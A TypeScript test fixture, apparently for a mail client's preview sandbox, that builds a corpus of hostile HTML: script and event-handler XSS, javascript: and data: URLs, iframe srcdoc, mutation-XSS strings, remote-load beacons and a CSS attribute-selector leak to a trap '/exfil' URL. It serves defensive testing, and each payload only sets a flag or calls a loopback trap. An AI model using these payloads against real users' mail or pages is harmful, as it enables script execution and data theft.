/**
 * HTML bodies that try to run code, navigate, submit, or load remote content from inside the
 * message preview. Every payload sets the same flag in its own window, its parent and the top
 * window, so a single check per frame tells whether anything ran.
 * `trap` is a loopback URL that records requests: nothing here may reach it unless the user
 * turns remote images on (and then only images).
 */
export interface HostileCase {
  name: string;
  html: string;
  /** Runs without any click in a normal (unsandboxed) frame: the positive control. */
  autoRuns: boolean;
}

const pwn = (label: string) =>
  `window.__pwned='${label}';try{parent.__pwned='${label}'}catch(e){};try{top.__pwned='${label}'}catch(e){}`;
const attr = (label: string) => pwn(label).replace(/'/g, "&#39;");

export function hostileCorpus(trap: string): HostileCase[] {
  return [
    {
      name: "script tags",
      autoRuns: true,
      html: `<p>scripts</p><script>${pwn("script")}</script><script src="${trap}/script.js"></script>`,
    },
    {
      name: "event handlers",
      autoRuns: true,
      html: `<img src="x-missing" onerror="${attr("onerror")}"><body onload="${attr("onload")}"><details open ontoggle="${attr("ontoggle")}"><summary>d</summary></details><input autofocus onfocus="${attr("onfocus")}">`,
    },
    {
      name: "svg onload and svg script",
      autoRuns: true,
      html: `<svg onload="${attr("svg-onload")}" width="10" height="10"><script>${pwn("svg-script")}</script><animate attributeName="href" values="javascript:${attr("svg-animate")}"/></svg>`,
    },
    {
      name: "javascript: URLs",
      autoRuns: false,
      html: `<a id="click-js" href="javascript:${attr("js-href")}">js link</a> <a id="click-tab" href="java&#x09;script:${attr("js-tab")}">tab link</a> <math><mi xlink:href="javascript:${attr("math")}">m</mi></math> <a id="click-data" href="data:text/html,<script>${encodeURIComponent(pwn("data-url"))}</script>">data link</a>`,
    },
    {
      name: "meta refresh and base",
      autoRuns: false,
      html: `<html><head><meta http-equiv="refresh" content="0;url=${trap}/refresh"><base href="${trap}/base/"></head><body><p>refresh</p><img src="relative.png"></body></html>`,
    },
    {
      name: "forms",
      autoRuns: false,
      html: `<form action="${trap}/form" method="post"><input name="a" value="b"><button id="click-submit" type="submit">Submit</button></form><form action="javascript:${attr("form-js")}"><button id="click-submit-js">Go</button></form><button form="nope" formaction="${trap}/formaction">x</button>`,
    },
    {
      name: "frames and plugins",
      autoRuns: true,
      html: `<iframe src="javascript:${attr("iframe-js")}"></iframe><iframe srcdoc="<script>${attr("iframe-srcdoc")}</script>"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed"><iframe src="${trap}/iframe"></iframe>`,
    },
    {
      name: "css tricks",
      autoRuns: false,
      html: `<style>@import url("${trap}/import.css"); body { background: url(${trap}/body-bg.png) } input[value^="b"] { background: url(${trap}/exfil) }</style>
        <link rel="stylesheet" href="${trap}/link.css"><link rel="prefetch" href="${trap}/prefetch">
        <div style="position:fixed;inset:0;background-image:url('${trap}/overlay.png');opacity:.01;z-index:9999">overlay</div><input value="bad">`,
    },
    {
      name: "remote media",
      autoRuns: false,
      html: `<img id="remote-img" src="${trap}/pixel.gif" width="1" height="1"><img srcset="${trap}/srcset.gif 2x"><table background="${trap}/table-bg.gif"><tr><td>t</td></tr></table><video poster="${trap}/poster.gif"><source src="${trap}/video.mp4"></video><audio src="${trap}/audio.mp3" autoplay></audio>`,
    },
    {
      name: "links with target",
      autoRuns: false,
      html: `<a id="click-top" href="${trap}/target-top" target="_top">top</a> <a id="click-parent" href="${trap}/target-parent" target="_parent">parent</a> <a id="click-self" href="${trap}/target-self" target="_self" ping="${trap}/ping">self</a> <a id="click-named" href="${trap}/target-named" target="mailproof">named</a>`,
    },
    {
      name: "mutation XSS",
      autoRuns: false,
      html: `<noscript><p title="</noscript><img src=x onerror=${attr("mxss")}>"></noscript><svg><style><img src=x onerror="${attr("mxss-svg")}"></style></svg>`,
    },
  ];
}

/**
 * Clicks that a curious developer might make; none may run code or move the UI away. (`_parent`
 * and named targets are rewritten like `_top`; each click that opens a tab costs a renderer, so
 * two stand for the four.)
 */
export const CLICKS = [
  "#click-js",
  "#click-tab",
  "#click-data",
  "#click-submit",
  "#click-submit-js",
  "#click-self",
  "#click-top",
];
